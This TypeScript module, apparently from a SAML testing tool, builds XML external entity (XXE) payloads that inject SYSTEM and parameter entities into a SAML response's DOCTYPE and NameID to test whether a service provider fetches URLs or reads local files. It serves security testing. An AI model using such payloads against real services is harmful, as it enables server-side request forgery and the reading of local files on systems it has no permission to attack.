/*
 * XML external entity (XXE, CWE-611; OWASP XXE Prevention Cheat Sheet; a SAML instance: CVE-2022-35741,
 * Apache CloudStack's SAML plugin): a DOCTYPE declares
 * `<!ENTITY x SYSTEM "url">` and the NameID's text becomes `&x;`. An SP whose parser resolves external entities
 * fetches the URL (SSRF, or a local file when it is file://) and may read its content as the identity. Point it
 * at a URL you watch to see whether the SP fetched it. saml-core §1.3: SAML messages need no DTD; refuse them.
 * Options:
 * - parameterEntityUrl: also `<!ENTITY % p SYSTEM "url">%p;`, referenced in the DOCTYPE itself — the out-of-band
 *   probe a parser that loads external parameter entities fetches while reading the DTD (Xerces' default);
 * - referenced: false leaves `&x;` out of the NameID: every signature stays valid and only the SP's refusal of
 *   DTDs stops the response (a DOCTYPE is outside what is signed, xml-c14n §2.3).
 */
import { idpError } from '../errors.ts';
import { prependDoctype, referenceInNameId } from './doctype.ts';

export interface ExternalEntityOptions {
  readonly parameterEntityUrl?: string;
  readonly referenced?: boolean;
}

export function externalEntity(xml: string, url: string, options: ExternalEntityOptions = {}): string {
  checkExternalEntity(url, options);
  const parameter = options.parameterEntityUrl === undefined ? '' : `<!ENTITY % p SYSTEM "${options.parameterEntityUrl}">%p;`;
  return prependDoctype(options.referenced === false ? xml : referenceInNameId(xml, '&x;'), `${parameter}<!ENTITY x SYSTEM "${url}">`);
}

/** A SYSTEM literal cannot hold its own quote character (XML 1.0 §2.3 SystemLiteral); options are what they say. */
export function checkExternalEntity(url: string, options: ExternalEntityOptions): void {
  for (const u of [url, options.parameterEntityUrl]) {
    if (u !== undefined && (typeof u !== 'string' || u.includes('"'))) throw idpError('builder/invalid', 'externalEntity: a URL is a string without a double quote');
  }
  if (options.referenced !== undefined && typeof options.referenced !== 'boolean') throw idpError('builder/invalid', 'externalEntity: referenced is true or false');
}
